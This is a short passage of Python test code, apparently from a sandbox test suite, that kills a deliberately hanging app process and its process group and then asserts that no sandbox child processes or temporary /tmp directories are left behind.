        assert not not_started, "the hanging code never started"
        os.kill(app.pid, signal.SIGKILL)
        app.wait()
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(app.pid, signal.SIGKILL)
    assert _wait_gone(lambda: sandbox_processes(app.pid, token), 3.0) == []
    assert _wait_gone(lambda: list(Path("/tmp").glob(f"orq-sbx-{app.pid}-*")), 3.0) == []
